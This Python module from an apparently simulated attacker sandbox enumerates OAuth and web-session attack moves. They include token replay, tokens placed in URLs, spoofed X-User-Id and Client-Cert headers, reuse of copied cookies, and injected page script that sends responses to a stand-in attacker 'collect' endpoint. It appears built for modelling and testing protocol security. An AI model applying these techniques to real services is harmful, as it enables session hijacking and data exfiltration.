"""Moves that only ask: each request that could show one of the goals, perhaps in two steps, with all that the attacker has."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace

from sandbox.attacker.asks import Ask, asks
from sandbox.attacker.moves import ACCOUNT, CONFIDENTIAL, FOR_SPAS, HERS, Chain, Kind, Move, counts, somewhere, thing
from sandbox.attacker.question import Question
from sandbox.attacker.values import Value
from sandbox.core.wire import split
from sandbox.engine.player import Stage
from sandbox.protocol.cast import CAST, EVIL, internal, title

IDENTITIES = ("X-User-Id", "X_User_Id")  # headers by which services behind a gateway are told who calls
OWN_PAGE = {"X-CSRF": "1"}  # what the page of an app with a backend adds to its requests (RFC 10017 §6.1.3.3)


def probes(question: Question, stage: Stage, known: tuple[Value, ...], begun: frozenset[str] | None = frozenset()) -> Iterator[Chain]:
    """Each request that could show one of the goals, with all that she has.

    `begun`: the clients at which she has a flow of her own; None if what they show her cannot have changed.
    """
    wanted = asks(question)
    for value in known:
        if value.kind in ("token", "id_token") and not value.forged and counts(question, value):
            for ask in wanted:
                yield from _shown(ask, value)
                yield from _vouched(ask, value, known)
        elif value.kind == "request" and value.user != HERS:
            for ask in wanted:
                yield from _repeated(question, ask, value)
        elif value.kind == "cookies" and value.user != HERS:
            yield from _as_her_browser(question, value)
    for ask in wanted:
        yield from _named_in_headers(question, ask, known)
        yield from _for_somebody(question, stage, ask)
        if "client" in question.can and stage.world.clients["evil_app"].sessions:
            for place in question.used_at("evil_app"):
                say = f"Her client asks for {ask.said}{somewhere(question, 'evil_app', place)}."
                args = {"browser": place, "api": ask.api, "method": ask.method, "path": ask.path}
                yield (Move.of("evil_app.call_api", _kind(ask), "call", say, **args),)
        for client in question.of("rides") if not ask.changes else ():
            yield from (_ridden(client, ask, place, somewhere(question, client, place)) for place in question.used_at(client))
    if begun is not None:
        yield from _own_pages(question, stage, begun)


def _for_somebody(question: Question, stage: Stage, ask: Ask) -> Iterator[Chain]:
    """A service that she operates asks another one for a person who has not sent it anything, where services call each other so."""
    for service in question.of("operates"):
        if service in stage.world.apis and stage.world.apis[service].policy.calls != "off" and service != ask.api:
            for user in dict.fromkeys(_people(question)):
                say = f"{title(service)} says that it calls for {title(user)}, and asks for {ask.said}."
                args = {"user": user, "api": ask.api, "method": ask.method, "path": ask.path}
                yield (Move.of(f"{service}.act_for", _kind(ask), "call", say, **args),)


def _people(question: Question) -> Iterator[str]:
    """The people whom the goals are about."""
    people = (t.what.partition(":")[0] for t in question.targets)
    return (name for name in people if name in CAST)


def _kind(ask: Ask) -> Kind:
    return "harm" if ask.changes else "probe"


def shown(question: Question, forged: Value) -> Iterator[Chain]:
    """A token that she has made, at each API."""
    return (chain for ask in asks(question) for chain in _shown(ask, forged))


def _shown(ask: Ask, value: Value) -> Iterator[Chain]:
    """A token in each of the ways in which it can be presented (RFC 6750 §2, RFC 9449 §7)."""
    who = "evil_app" if value.client == "evil_app" else HERS  # what Alice has allowed to that client is not stolen by handing it on
    say = f"{'Her client' if who == 'evil_app' else 'Mallory'} asks for {ask.said} with {thing(value)}"
    args = {"api": ask.api, "method": ask.method, "path": ask.path, "token": value.ref}
    kind = _kind(ask)
    yield (Move.of(f"{who}.call_api", kind, "call", f"{say}.", value, **args),)
    if ask.behind_gateway:
        yield (Move.of(f"{who}.call_api", kind, "call", f"{say}, through the gateway.", value, via="gateway", **args),)
    if value.bound and who == HERS:
        yield (Move.of(f"{who}.call_api", kind, "call", f"{say}, as a plain bearer token.", value, scheme="bearer", **args),)
        change = {"query": {"access_token": value.ref}}
        url = f"{CAST[ask.api].host}{ask.path}"
        yield (Move.of(f"{who}.send", kind, "call", f"{say} in the address.", value, method=ask.method, url=url, change=change),)


def _vouched(ask: Ask, token: Value, known: tuple[Value, ...]) -> Iterator[Chain]:
    """A bound token through the gateway, with somebody's certificate in the header by which a gateway vouches for one (RFC 9440 §2.2)."""
    for certificate in known if token.bound and ask.behind_gateway else ():
        if certificate.kind == "certificate":
            say = f"Mallory asks the gateway for {ask.said} with {thing(token)}, and adds {certificate.name}."
            headers = {"Client-Cert": certificate.ref}
            args = {"api": ask.api, "method": ask.method, "path": ask.path, "token": token.ref, "via": "gateway", "headers": headers}
            yield (Move.of(f"{HERS}.call_api", _kind(ask), "call", say, token, certificate, **args),)


def _repeated(question: Question, ask: Ask, value: Value) -> Iterator[Chain]:
    """A request that she has seen, sent once more: from her machine, and from one that she operates."""
    change = {"method": ask.method, "host": split(CAST[ask.api].host).netloc, "path": ask.path}
    for sender in (None, *question.of("operates")):
        say = f"Mallory repeats {value.name} as {ask.said}{f', from {title(sender)}' if sender else ''}."
        yield (Move.of(f"{HERS}.send", _kind(ask), "call", say, value, like=value.ref, change=change, from_=sender),)


def _as_her_browser(question: Question, cookies: Value) -> Iterator[Chain]:
    """Copied cookies, sent to those who keep a session under them: whoever holds a session's identifier has the session."""
    for client in FOR_SPAS:
        for ask in asks(question):
            say = f"Mallory asks {title(client)} for {ask.said} with {cookies.name}."
            url, headers = f"{CAST[client].host}/api/{ask.api}{ask.path}", OWN_PAGE | {"Cookie": cookies.ref}
            yield (Move.of(f"{HERS}.send", _kind(ask), "call", say, cookies, method=ask.method, url=url, headers=headers),)
    for client in CONFIDENTIAL:
        say = f"Mallory opens the page of {title(client)} with {cookies.name}."
        headers = {"Cookie": cookies.ref}
        yield (Move.of(f"{HERS}.send", "probe", "call", say, cookies, method="GET", url=f"{CAST[client].host}/me", headers=headers),)


def _named_in_headers(question: Question, ask: Ask, known: tuple[Value, ...]) -> Iterator[Chain]:
    """Headers that say who is calling: inside, and to the gateway beside a token of her own (RFC 9700 §4.13)."""
    victim = next((t.what.partition(":")[0] for t in question.targets if t.predicate in ("read", "write")), "alice")
    if "internal" in question.of("reaches"):
        headers = {IDENTITIES[0]: victim, "X-Scope": "read write"}
        say = f"Mallory says from inside that she is {victim}, and asks for {ask.said}."
        move = Move.of(f"{HERS}.send", _kind(ask), "call", say, method=ask.method, url=internal(ask.api) + ask.path, headers=headers)
        yield (replace(move, once=True),)
    own = next((v for v in known if v.kind == "token" and v.user == HERS and not v.forged), None)
    for name in IDENTITIES if own is not None and ask.behind_gateway else ():
        say = f"Mallory asks the gateway for {ask.said} with her own token, and adds {name}: {victim}."
        args = {"api": ask.api, "method": ask.method, "path": ask.path, "via": "gateway", "headers": {name: victim}}
        assert own is not None
        yield (replace(Move.of(f"{HERS}.call_api", _kind(ask), "call", say, own, token=own.ref, **args), once=True),)


def _ridden(client: str, ask: Ask, place: str, where: str) -> Chain:
    """Her script asks as the page does, by way of its backend, and posts the answer home."""
    url, page = f"{CAST[client].host}/api/{ask.api}{ask.path}", {"browser": place, "in_": client}
    return (
        Move.of(f"{HERS}.act", "gain", "act", f"Her script in the page asks for {ask.said}{where}.", url=url, headers=OWN_PAGE, **page),
        Move.of(f"{HERS}.act", "probe", "act", "It posts the answer home.", url=f"{EVIL}/collect", json="$1.json", **page),
    )


def _own_pages(question: Question, stage: Stage, begun: frozenset[str]) -> Iterator[Chain]:
    """What clients show her in her own browser: what others have put into her account, and, where she has meddled, what is theirs."""
    if "account" in question.can and any(t.predicate in ("read", "session") for t in question.targets):
        for client in CONFIDENTIAL:
            say = f"Mallory looks at her page at {title(client)}."
            yield (Move.of(f"{ACCOUNT}.visit", "probe", "call", say, url=f"{CAST[client].host}/me"),)
        session = stage.world.clients["app"].session_in(stage.world.browsers[ACCOUNT])
        for ask in asks(question) if session and session.tokens else ():
            if not ask.changes and (ask.is_filled_by_others or begun.intersection(FOR_SPAS)):
                say = f"Mallory looks at {ask.path} in her own {title('app')}."
                args = {"browser": ACCOUNT, "api": ask.api, "path": ask.path}
                yield (Move.of("app.call_api", "probe", "call", say, **args),)
